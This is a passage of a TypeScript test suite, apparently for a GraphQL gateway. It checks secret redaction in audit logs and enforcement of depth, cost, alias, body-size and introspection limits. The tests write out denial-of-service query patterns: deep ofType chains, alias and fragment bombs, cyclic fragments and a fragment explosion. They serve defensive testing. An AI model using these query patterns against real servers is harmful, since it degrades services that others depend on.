  it('keeps a config value meant as secret out of the audit row of its refusal, whatever `secret` was sent as', async () => {
    const admin = await t.service.authenticate(keys.ADMIN);
    // A library caller passing a form's "true" or 1: refused, and the refusal is audited.
    for (const secret of ['true', 1]) {
      const value = `form-secret-${String(secret)}-7c6b5a`;
      await expect(
        t.service.setConfig(admin, { name: 'form.cfg', entries: [{ key: 'token', value, secret: secret as never }] }),
      ).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
      const { rows } = await t.query(`select input::text as input from audit_log where action = 'config.set' order by id desc limit 1`);
      expect(rows[0].input).not.toContain(value);
      expect(rows[0].input).toContain('[redacted]');
    }
  });
});

describe('limits', () => {
  it('passes the full introspection query that code generators send', async () => {
    const res = await gql(
      keys.VIEWER,
      getIntrospectionQuery({ descriptions: true, specifiedByUrl: true, directiveIsRepeatable: true, inputValueDeprecation: true }),
    );
    expect(res.body.errors).toBeUndefined();
    expect(res.body.data.__schema.queryType.name).toBe('Query');
  });

  it('holds introspection through __type to the introspection depth, not the query depth, as through __schema', async () => {
    // graphql's own fragments, as a tool asking for one type sends them: TypeRef is 9 ofType deep.
    const full = getIntrospectionQuery({ descriptions: true, inputValueDeprecation: true });
    const fragments = full.slice(full.indexOf('fragment FullType'));
    const res = await gql(keys.VIEWER, `query { __type(name: "Job") { ...FullType } } ${fragments}`);
    expect(res.body.errors).toBeUndefined();
    expect(res.body.data.__type.name).toBe('Job');
    let typeRef = 'name';
    for (let i = 0; i < 20; i++) typeRef = `ofType { ${typeRef} }`;
    const deep = await gql(keys.VIEWER, `{ __type(name: "Job") { fields { type { ${typeRef} } } } }`);
    expect(deep.body.errors?.[0]?.message).toMatch(/Introspection is limited to a depth|Cost limit/);
    expect(deep.body.data ?? null).toBeNull();
    // Everything else is still held to the query depth.
    let nested = 'slug';
    for (let i = 0; i < 12; i++) nested = `f${i} { ${nested} }`;
    const tooDeep = await gql(keys.VIEWER, `{ workspace { ${nested} } }`);
    expect(tooDeep.body.errors?.map((e) => e.message)).toContainEqual(expect.stringMatching(/^Query depth limit of 12 exceeded, found 14/));
    // The document parsed: no "Syntax Error:", as the other limits.
    expect(tooDeep.body.errors?.map((e) => e.message).filter((m) => m.startsWith('Syntax Error'))).toEqual([]);
    expect(tooDeep.body.errors?.[0]?.extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
  });

  it('refuses a query past the depth or cost limits with a clear error, and keeps serving', async () => {
    // The deepest path the schema allows, multiplied by aliases at every level.
    const leaf = 'config { entries { key value } } payloadSpec { jsonSchema }';
    const fan = (inner: string, n: number) => Array.from({ length: n }, (_, i) => `f${i}: ${inner}`).join(' ');
    const q = `{ ${fan(`executions(first: 100) { edges { node { ${fan(`job { ${fan(`endpoint { ${leaf} }`, 5)} }`, 5)} } } }`, 5)} }`;
    const res = await gql(keys.VIEWER, q);
    expect(res.body.errors?.[0]?.message).toMatch(/limit/i);
    expect(res.body.data ?? null).toBeNull();
    expect((await gql(keys.VIEWER, '{ workspace { slug } }')).body.data.workspace.slug).toBe('default');
  });

  it('prices a list by the `first` it will return: a variable is priced at its value, as a literal is', async () => {
    const nested = (n: string, m: string) => `runConnection(first: ${n}) { nodes { findings(first: ${m}) { nodes { id kind detail } } } }`;
    const literal = await gql(keys.VIEWER, `{ ${nested('100', '100')} }`);
    expect(literal.body.errors?.[0]?.message).toMatch(/Cost limit/);
    const variables = await gql(keys.VIEWER, `query ($n: Int, $m: Int) { ${nested('$n', '$m')} }`, { n: 100, m: 100 });
    expect(variables.body.errors?.[0]?.message).toMatch(/Cost limit/);
    expect(variables.body.data ?? null).toBeNull();
    const defaults = await gql(keys.VIEWER, `query ($n: Int = 100, $m: Int = 100) { ${nested('$n', '$m')} }`);
    expect(defaults.body.errors?.[0]?.message).toMatch(/Cost limit/);
    // Small pages are still served, through variables as through literals.
    const small = await gql(keys.VIEWER, `query ($n: Int, $m: Int) { ${nested('$n', '$m')} }`, { n: 10, m: 10 });
    expect(small.body.errors).toBeUndefined();
    expect(small.body.data.runConnection.nodes).toBeInstanceOf(Array);
    // Only the operation that runs is priced with the variables sent.
    const other = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` },
      body: JSON.stringify({
        query: `query Small { workspace { slug } } query Big ($n: Int) { ${nested('$n', '$n')} }`,
        operationName: 'Small',
        variables: { n: 100 },
      }),
    });
    expect(((await other.json()) as { data: { workspace: { slug: string } } }).data.workspace.slug).toBe('default');
  });

  it('refuses an alias bomb', async () => {
    const aliases = Array.from({ length: 200 }, (_, i) => `a${i}: workspace { slug }`).join(' ');
    const res = await gql(keys.VIEWER, `{ ${aliases} }`);
    expect(res.body.errors?.[0]?.message).toMatch(/alias/i);
    expect((await gql(keys.VIEWER, '{ workspace { slug } }')).status).toBe(200);
  });

  it('refuses a deep introspection query, even behind a fragment named __schema or a fragment reused deeper, and cyclic fragments', async () => {
    let typeRef = 'name';
    for (let i = 0; i < 20; i++) typeRef = `ofType { ${typeRef} }`;
    const res = await gql(keys.VIEWER, `{ __schema { types { fields { type { ${typeRef} } } } } }`);
    expect(res.body.errors?.[0]?.message).toMatch(/Introspection is limited to a depth/);
    const sneaky = await gql(
      keys.VIEWER,
      `query { ...__schema } fragment __schema on Query { __schema { types { fields { type { ${typeRef} } } } } }`,
    );
    expect(sneaky.body.errors?.[0]?.message).toMatch(/depth|Introspection/i);
    // The same fragment shallow first, deep second: its depth is not cached from the first use.
    let deep = 'name';
    for (let i = 0; i < 12; i++) deep = `ofType { ${deep} }`;
    const cached = await gql(
      keys.VIEWER,
      `{ a: __type(name: "Job") { ...T } b: __schema { types { fields { type { ofType { ofType { ...T } } } } } } } fragment T on __Type { name fields { type { ${deep} } } }`,
    );
    expect(cached.body.errors?.[0]?.message).toMatch(/depth/i);
    expect(cached.body.data ?? null).toBeNull();
    const cyclic = await gql(keys.VIEWER, 'query { ...A } fragment A on Query { workspace { slug } ...B } fragment B on Query { ...A }');
    expect(cyclic.body.errors?.[0]?.message).toMatch(/cannot spread fragment|cycle/i);
    expect((await gql(keys.VIEWER, '{ workspace { slug } }')).status).toBe(200);
  });

  it('answers a fragment explosion quickly, authenticated or not (validation work is linear)', async () => {
    // Each fragment spreads the next twice: without memoising, the work doubles per level.
    const n = 30;
    const defs = Array.from({ length: n }, (_, i) =>
      i === n - 1 ? `fragment F${i} on __Schema { queryType { name } }` : `fragment F${i} on __Schema { ...F${i + 1} ...F${i + 1} }`,
    ).join(' ');
    // Without memoising, 2^30 fragment visits: this test would hang past its timeout.
    const res = await gql(undefined, `{ __schema { ...F0 } } ${defs}`);
    expect(res.status).toBe(401);
    expect((await gql(keys.VIEWER, `{ __schema { ...F0 } } ${defs}`)).body.data.__schema.queryType.name).toBe('Query');
  });

  it('refuses an oversized body with 413 and keeps serving', async () => {
    const res = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` },
      body: JSON.stringify({ query: '{ workspace { slug } }', variables: { pad: 'x'.repeat(200_000) } }),
    });
    expect(res.status).toBe(413);
    expect((await gql(keys.VIEWER, '{ workspace { slug } }')).status).toBe(200);
  });

  it('refuses introspection when the setting closes it, and still serves queries', async () => {
    const closed = await startGateway({
      service: t.service,
      log: createLogger('silent'),
      host: '127.0.0.1',
      port: 0,
      introspection: false,
      authenticate: (request) => t.service.authenticate(/^Bearer (\S+)$/.exec(request.headers.get('authorization') ?? '')?.[1]),
    });
    try {
      const at = `http://127.0.0.1:${(closed.server.address() as AddressInfo).port}/graphql`;
      const ask = async (query: string) =>
        (await (
          await fetch(at, {
            method: 'POST',
            headers: { 'content-type': 'application/json', authorization: `Bearer ${keys.VIEWER}` },
            body: JSON.stringify({ query }),
          })
        ).json()) as {
          data?: any;
          errors?: { message: string }[];
        };
      expect((await ask('{ __schema { queryType { name } } }')).errors?.[0]?.message).toMatch(/introspection/i);
      // Federation's `_service { sdl }` is the schema by another name: closed with introspection.
      expect((await ask('{ _service { sdl } }')).errors?.[0]?.message).toMatch(/introspection/i);
      expect((await ask('{ workspace { slug } }')).data.workspace.slug).toBe('default');
    } finally {
      await closed.close();
    }
  });

  it('never suggests field names', async () => {
    const res = await gql(keys.VIEWER, '{ workspac { slug } }');
    expect(res.body.errors![0]!.message).not.toMatch(/Did you mean/);
  });

  it('answers a simple (non-preflighted) browser request with no key 401 UNAUTHENTICATED, before the CSRF check', async () => {
    const res = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: JSON.stringify({ query: '{ workspace { slug } }' }),
    });
    const text = await res.text();
    expect(res.status, text).toBe(401);
    expect(text).toContain('UNAUTHENTICATED');
    expect(text).not.toMatch(/CSRF/);
  });
});
